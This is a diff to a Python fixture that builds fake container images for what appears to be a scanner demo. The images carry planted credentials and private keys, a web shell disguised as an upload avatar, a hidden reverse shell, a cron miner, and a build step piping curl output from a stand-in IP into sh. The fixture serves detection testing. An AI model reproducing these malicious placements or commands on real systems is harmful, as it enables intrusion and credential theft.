@@ -7,7 +7,7 @@ from collections.abc import Iterator, Mapping
 from dataclasses import dataclass
 from functools import cache
 
-from demo import build, planted, systems
+from demo import build, sample_secrets, systems
 from demo.build import Blob, BuiltManifest, ImageStep, text
 from demo.languages import npm_packages, python_packages
 from demo.registry_server import RegistryServer
@@ -42,9 +42,21 @@ def samples() -> Iterator[SampleTag]:
     """Yield every tag of the sample registry."""
     web, api = _web(), _api()
     web_manifest = build.image(build.config(web), web, "docker")
-    yield SampleTag("library/debian", "12", build.image(build.config(systems.debian()), systems.debian(), "docker"))
-    yield SampleTag("library/debian", "12.0", build.image(build.config(systems.debian()), systems.debian(), "docker"))
-    yield SampleTag("library/alpine", "3.18", build.image(build.config(systems.alpine()), systems.alpine(), "docker"))
+    yield SampleTag(
+        "library/debian",
+        "12",
+        build.image(build.config(systems.debian()), systems.debian(), "docker"),
+    )
+    yield SampleTag(
+        "library/debian",
+        "12.0",
+        build.image(build.config(systems.debian()), systems.debian(), "docker"),
+    )
+    yield SampleTag(
+        "library/alpine",
+        "3.18",
+        build.image(build.config(systems.alpine()), systems.alpine(), "docker"),
+    )
     yield SampleTag("shop/storefront/web", "2.4.1", web_manifest)
     yield SampleTag("shop/storefront/web", "latest", web_manifest)
     yield SampleTag(
@@ -88,8 +100,8 @@ def _web() -> tuple[ImageStep, ...]:
     packages = {"axios": "0.21.0", "express": "4.16.0", "lodash": "4.17.15", "minimist": "1.2.0", "qs": "6.5.2"}
     settings = (
         "NODE_ENV=production\nPORT=8080\n"
-        f"ALERTS_WEBHOOK={planted.slack_webhook('storefront')}\n"
-        f"STRIPE_SECRET_KEY={planted.stripe_key('storefront')}\n"
+        f"ALERTS_WEBHOOK={sample_secrets.slack_webhook('storefront')}\n"
+        f"STRIPE_SECRET_KEY={sample_secrets.stripe_key('storefront')}\n"
     )
     return (
         *systems.alpine(),
@@ -124,7 +136,7 @@ def _api() -> tuple[ImageStep, ...]:
         _debian_python(),
         ImageStep(
             "COPY deploy/credentials /root/.aws/credentials # buildkit",
-            (text("root/.aws/credentials", planted.aws_credentials("deploy"), 0o600),),
+            (text("root/.aws/credentials", sample_secrets.aws_credentials("deploy"), 0o600),),
         ),
         ImageStep(
             "RUN /bin/sh -c pip install --no-cache-dir -r requirements.txt # buildkit",
@@ -138,7 +150,9 @@ def _api() -> tuple[ImageStep, ...]:
             "COPY . /srv/api # buildkit",
             (
                 text("srv/api/manage.py", "from django.core.management import execute_from_command_line\n"),
-                text("srv/api/.netrc", f"machine github.com login deploy password {planted.github_token('api')}\n"),
+                text(
+                    "srv/api/.netrc", f"machine github.com login deploy password {sample_secrets.github_token('api')}\n"
+                ),
             ),
         ),
         ImageStep('CMD ["gunicorn" "api.wsgi"]'),
@@ -170,7 +184,7 @@ def _payments(architecture: str) -> BuiltManifest:
         ),
         ImageStep(
             "COPY tls/ /etc/payments/tls/ # buildkit",
-            (text("etc/payments/tls/server.key", planted.private_key("payments"), 0o600),),
+            (text("etc/payments/tls/server.key", sample_secrets.private_key("payments"), 0o600),),
         ),
         ImageStep('ENTRYPOINT ["/usr/local/bin/payments"]'),
     )
@@ -200,14 +214,14 @@ def _runner() -> tuple[ImageStep, ...]:
         *_installed_one_by_one(RUNNER_PACKAGES),
         ImageStep(
             "COPY id_ed25519 /home/runner/.ssh/id_ed25519 # buildkit",
-            (text("home/runner/.ssh/id_ed25519", planted.private_key("runner"), 0o600),),
+            (text("home/runner/.ssh/id_ed25519", sample_secrets.private_key("runner"), 0o600),),
         ),
         ImageStep(
             "RUN |1 DEBIAN_FRONTEND=noninteractive /bin/sh -c git config --global credential.helper store # buildkit",
             (
                 text(
                     "home/runner/.git-credentials",
-                    f"https://ci:{planted.github_token('runner')}@github.com\n",
+                    f"https://ci:{sample_secrets.github_token('runner')}@github.com\n",
                     0o600,
                 ),
             ),
@@ -223,7 +237,10 @@ def _installed_one_by_one(table: str) -> Iterator[ImageStep]:
         name = line.split()[0]
         yield ImageStep(
             f"RUN |1 DEBIAN_FRONTEND=noninteractive /bin/sh -c apt-get install -y {name} # buildkit",
-            (*systems.debian_packages(line, before=before), systems.program(f"usr/bin/{name}", 40_000)),
+            (
+                *systems.debian_packages(line, before=before),
+                systems.program(f"usr/bin/{name}", 40_000),
+            ),
         )
         before += f"\n{line}"
 
@@ -236,7 +253,7 @@ def _mail_gateway() -> tuple[ImageStep, ...]:
             "/bin/sh -c #(nop) COPY dir:9d1c0f in /opt/gateway ",
             (
                 text("opt/gateway/gateway.conf", "listen = 0.0.0.0:2525\nscanner = clamd\n"),
-                build.ImageFile("opt/gateway/selftest/eicar.com", planted.eicar()),
+                build.ImageFile("opt/gateway/selftest/eicar.com", sample_secrets.eicar()),
             ),
             comment="",
         ),
@@ -253,8 +270,8 @@ def _cms() -> tuple[ImageStep, ...]:
             (
                 text("var/www/html/index.php", "<?php require 'lib/site.php'; site_render($_SERVER['REQUEST_URI']);\n"),
                 text("var/www/html/lib/site.php", "<?php function site_render($p) { echo htmlspecialchars($p); }\n"),
-                text("var/www/html/uploads/2024/06/avatar.php", planted.web_shell()),
-                text("var/tmp/.cache/sync.sh", planted.reverse_shell(), 0o755),
+                text("var/www/html/uploads/2024/06/avatar.php", sample_secrets.web_shell()),
+                text("var/tmp/.cache/sync.sh", sample_secrets.reverse_shell(), 0o755),
             ),
             comment="",
         ),
@@ -274,8 +291,8 @@ def _notebook() -> tuple[ImageStep, ...]:
         ImageStep(
             "RUN /bin/sh -c curl -fsSL http://198.51.100.23/setup.sh | sh # buildkit",
             (
-                text("tmp/.x/config.json", planted.miner_config()),
-                text("etc/cron.hourly/sysupdate", planted.miner_script(), 0o755),
+                text("tmp/.x/config.json", sample_secrets.miner_config()),
+                text("etc/cron.hourly/sysupdate", sample_secrets.miner_script(), 0o755),
             ),
         ),
         ImageStep('CMD ["jupyter" "notebook"]'),
